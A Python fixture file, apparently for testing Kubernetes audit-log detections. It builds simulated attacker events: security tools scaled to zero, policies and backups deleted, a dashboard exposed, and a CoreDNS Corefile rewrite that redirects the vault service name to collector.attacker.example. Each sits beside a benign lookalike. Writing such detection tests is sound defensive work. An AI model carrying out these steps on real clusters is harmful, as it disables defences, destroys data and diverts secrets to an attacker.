"""Fixtures: defence impairment, DNS tampering, data destruction, exposure, and the
webhook and APIService maintenance of well-known components that must stay quiet."""

from __future__ import annotations

import breadth_kit as k
import cases_lookalikes
import make_fixtures as mf
from auditgen import objref


def _security_tools(t: mf.Theme) -> None:
    scale = {"spec": {"replicas": 0}}
    t.case(
        "policy engine scaled to zero fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            "kyverno",
            "kyverno-admission-controller",
            scale,
            subresource="scale",
        ),
        {k.R_SECTOOL_SCALE: 1},
    )
    t.case(
        "JSON patch setting a security tool's replicas to zero fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            "gatekeeper-system",
            "gatekeeper-controller-manager",
            [k.json_op("replace", "/spec/replicas", 0)],
        ),
        {k.R_SECTOOL_SCALE: 1},
    )
    nowhere = k.template_patch("DaemonSet", {"nodeSelector": {"non-existing": "true"}})
    t.case(
        "Falco DaemonSet patched to schedule nowhere fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "DaemonSet",
            "falco",
            "falco",
            nowhere,
            query="fieldManager=kubectl-patch",
        ),
        {k.R_SECTOOL_SCALE: 1},
    )
    t.case(
        "Tetragon DaemonSet deleted fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/apps/v1/namespaces/kube-system/daemonsets/tetragon",
            k.ref_for("DaemonSet", "kube-system", "tetragon"),
        ),
        {mf.R_SECTOOL: 1},
    )
    t.case(
        "policy engine scaled up is quiet",
        k.write(
            t,
            mf.ALICE,
            "patch",
            "Deployment",
            "kyverno",
            "kyverno-admission-controller",
            {"spec": {"replicas": 3}},
            subresource="scale",
        ),
        {},
        [k.R_SECTOOL_SCALE],
    )
    os_only = k.template_patch("DaemonSet", {"nodeSelector": {"kubernetes.io/os": "linux"}})
    t.case(
        "Falco upgrade pinning the OS node selector is quiet",
        k.write(
            t,
            mf.ALICE.with_ip("10.8.0.14", k.HELM_UA),
            "patch",
            "DaemonSet",
            "falco",
            "falco",
            os_only,
        ),
        {},
        [k.R_SECTOOL_SCALE],
    )
    t.case(
        "application scaled to zero is quiet",
        k.write(
            t,
            mf.BOB,
            "patch",
            "Deployment",
            "shop",
            "cart",
            {"spec": {"replicas": 0}},
            subresource="scale",
        ),
        {},
        [k.R_SECTOOL_SCALE, k.R_DNS_SCALE],
    )


def _policies(t: mf.Theme) -> None:
    t.case(
        "Kyverno ClusterPolicy deleted fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/kyverno.io/v1/clusterpolicies/disallow-privileged-containers",
            objref("clusterpolicies", None, "disallow-privileged-containers", group="kyverno.io"),
        ),
        {k.R_POLICY_DEL: 1},
    )
    t.case(
        "Gatekeeper constraint deleted fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/constraints.gatekeeper.sh/v1beta1/k8spspprivilegedcontainer/psp-privileged-container",
            objref(
                "k8spspprivilegedcontainer",
                None,
                "psp-privileged-container",
                group="constraints.gatekeeper.sh",
                version="v1beta1",
            ),
        ),
        {k.R_POLICY_DEL: 1},
    )
    kyverno_reports = k.service_account(
        "kyverno",
        "kyverno-reports-controller",
        "10.244.3.14",
        "kyverno/v1.12.3 (linux/amd64) kubernetes/$Format",
    )
    t.case(
        "Kyverno cleaning up its admission reports is quiet",
        k.simple(
            t,
            kyverno_reports,
            "delete",
            "/apis/kyverno.io/v1/namespaces/shop/admissionreports/6c1f2e3d",
            objref("admissionreports", "shop", "6c1f2e3d", group="kyverno.io"),
        ),
        {},
        [k.R_POLICY_DEL],
    )
    t.case(
        "a Policy of another API group deleted is quiet",
        k.simple(
            t,
            mf.BOB,
            "delete",
            "/apis/example.com/v1/namespaces/shop/policies/retention",
            objref("policies", "shop", "retention", group="example.com"),
        ),
        {},
        [k.R_POLICY_DEL],
    )


def _network(t: mf.Theme) -> None:
    net = "networking.k8s.io"
    t.case(
        "NetworkPolicy deleted fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies/default-deny",
            objref("networkpolicies", "payments", "default-deny", group=net),
        ),
        {k.R_NETPOL: 1},
    )
    t.case(
        "Cilium network policies deleted as a collection fires",
        k.simple(
            t,
            mf.MALLORY,
            "deletecollection",
            "/apis/cilium.io/v2/namespaces/payments/ciliumnetworkpolicies",
            objref("ciliumnetworkpolicies", "payments", group="cilium.io", version="v2"),
        ),
        {k.R_NETPOL: 1},
    )
    t.case(
        "namespace controller cleaning up policies is quiet",
        k.simple(
            t,
            mf.controller("namespace-controller"),
            "deletecollection",
            "/apis/networking.k8s.io/v1/namespaces/old-shop/networkpolicies",
            objref("networkpolicies", "old-shop", group=net),
        ),
        {},
        [k.R_NETPOL],
    )
    corefile = (
        ".:53 {\n    errors\n    health\n    rewrite name vault.payments.svc.cluster.local "
        "collector.attacker.example\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n"
        "       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n"
        "    forward . /etc/resolv.conf\n    cache 30\n}\n"
    )
    cm_ref = objref("configmaps", "kube-system", "coredns")
    t.case(
        "Corefile rewritten fires",
        k.simple(
            t,
            mf.MALLORY,
            "patch",
            "/api/v1/namespaces/kube-system/configmaps/coredns",
            cm_ref,
            {"data": {"Corefile": corefile}},
        ),
        {k.R_DNS_CFG: 1},
    )
    kubeadm = mf.ADMIN.with_ip("10.0.0.10", k.KUBEADM_UA)
    full = {
        "kind": "ConfigMap",
        "apiVersion": "v1",
        "metadata": {"name": "coredns", "namespace": "kube-system"},
        "data": {
            "Corefile": corefile.replace(
                "    rewrite name vault.payments.svc.cluster.local collector.attacker.example\n", ""
            )
        },
    }
    t.case(
        "kubeadm upgrade rewriting the Corefile is quiet",
        k.simple(
            t, kubeadm, "update", "/api/v1/namespaces/kube-system/configmaps/coredns", cm_ref, full
        ),
        {},
        [k.R_DNS_CFG],
    )
    t.case(
        "ConfigMap named like CoreDNS elsewhere is quiet",
        k.simple(
            t,
            mf.BOB,
            "patch",
            "/api/v1/namespaces/shop/configmaps/coredns",
            objref("configmaps", "shop", "coredns"),
            {"data": {"note": "x"}},
        ),
        {},
        [k.R_DNS_CFG],
    )
    t.case(
        "CoreDNS scaled to zero fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            "kube-system",
            "coredns",
            {"spec": {"replicas": 0}},
            subresource="scale",
        ),
        {k.R_DNS_SCALE: 1},
    )
    t.case(
        "CoreDNS Deployment deleted fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/apps/v1/namespaces/kube-system/deployments/coredns",
            k.ref_for("Deployment", "kube-system", "coredns"),
        ),
        {k.R_DNS_SCALE: 1},
    )
    autoscaler = k.service_account(
        "kube-system",
        "dns-autoscaler",
        "10.244.0.9",
        "cluster-proportional-autoscaler/v1.8.9 (linux/amd64)",
    )
    t.case(
        "DNS autoscaler scaling CoreDNS to three is quiet",
        k.write(
            t,
            autoscaler,
            "update",
            "Deployment",
            "kube-system",
            "coredns",
            {
                "kind": "Scale",
                "apiVersion": "autoscaling/v1",
                "metadata": {"name": "coredns", "namespace": "kube-system"},
                "spec": {"replicas": 3},
            },
            subresource="scale",
        ),
        {},
        [k.R_DNS_SCALE],
    )


def _data(t: mf.Theme) -> None:
    t.case(
        "PersistentVolumeClaim deleted by a user fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/api/v1/namespaces/payments/persistentvolumeclaims/ledger-data-ledger-0",
            objref("persistentvolumeclaims", "payments", "ledger-data-ledger-0"),
        ),
        {k.R_PV_DEL: 1},
    )
    t.case(
        "PersistentVolume released by the binder is quiet",
        k.simple(
            t,
            mf.controller("persistent-volume-binder"),
            "delete",
            "/api/v1/persistentvolumes/pvc-3f2e1d0c",
            objref("persistentvolumes", None, "pvc-3f2e1d0c"),
        ),
        {},
        [k.R_PV_DEL],
    )
    snap = "snapshot.storage.k8s.io"
    t.case(
        "VolumeSnapshot deleted by a user fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            f"/apis/{snap}/v1/namespaces/payments/volumesnapshots/ledger-nightly",
            objref("volumesnapshots", "payments", "ledger-nightly", group=snap),
        ),
        {k.R_BACKUP_DEL: 1},
    )
    t.case(
        "Velero backup deleted by a user fires",
        k.simple(
            t,
            mf.MALLORY,
            "delete",
            "/apis/velero.io/v1/namespaces/velero/backups/daily-20260313",
            objref("backups", "velero", "daily-20260313", group="velero.io"),
        ),
        {k.R_BACKUP_DEL: 1},
    )
    t.case(
        "velero backup delete (a DeleteBackupRequest) by a user fires",
        k.simple(
            t,
            mf.MALLORY,
            "create",
            "/apis/velero.io/v1/namespaces/velero/deletebackuprequests",
            objref("deletebackuprequests", "velero", "daily-20260312-x7k2p", group="velero.io"),
            {
                "kind": "DeleteBackupRequest",
                "apiVersion": "velero.io/v1",
                "metadata": {"name": "daily-20260312-x7k2p", "namespace": "velero"},
                "spec": {"backupName": "daily-20260312"},
            },
        ),
        {k.R_BACKUP_DEL: 1},
    )
    velero = k.service_account(
        "velero", "velero", "10.244.2.31", "velero-server/v1.13.2 (linux/amd64)"
    )
    t.case(
        "Velero expiring an old backup is quiet",
        k.simple(
            t,
            velero,
            "delete",
            "/apis/velero.io/v1/namespaces/velero/backups/daily-20260213",
            objref("backups", "velero", "daily-20260213", group="velero.io"),
        ),
        {},
        [k.R_BACKUP_DEL],
    )


def _exposure(t: mf.Theme) -> None:
    svc_ref = objref("services", "kubernetes-dashboard", "kubernetes-dashboard")
    t.case(
        "dashboard Service changed to LoadBalancer fires",
        k.simple(
            t,
            mf.MALLORY,
            "patch",
            "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard",
            svc_ref,
            {"spec": {"type": "LoadBalancer"}},
        ),
        {k.R_EXPOSE: 1},
    )
    t.case(
        "dashboard Service kept internal is quiet",
        k.simple(
            t,
            mf.ALICE,
            "patch",
            "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard",
            svc_ref,
            {"spec": {"type": "ClusterIP"}},
        ),
        {},
        [k.R_EXPOSE],
    )
    t.case(
        "shop LoadBalancer is quiet",
        k.simple(
            t,
            mf.ALICE,
            "patch",
            "/api/v1/namespaces/shop/services/web",
            objref("services", "shop", "web"),
            {"spec": {"type": "LoadBalancer"}},
        ),
        {},
        [k.R_EXPOSE],
    )


def theme_defence() -> mf.Theme:
    t = mf.Theme(
        "defence",
        1202,
        "Defence impairment, DNS tampering, data destruction, exposure; webhook and "
        "APIService maintenance by known components",
    )
    _security_tools(t)
    _policies(t)
    _network(t)
    _data(t)
    _exposure(t)
    cases_lookalikes.component_maintenance(t)
    return t
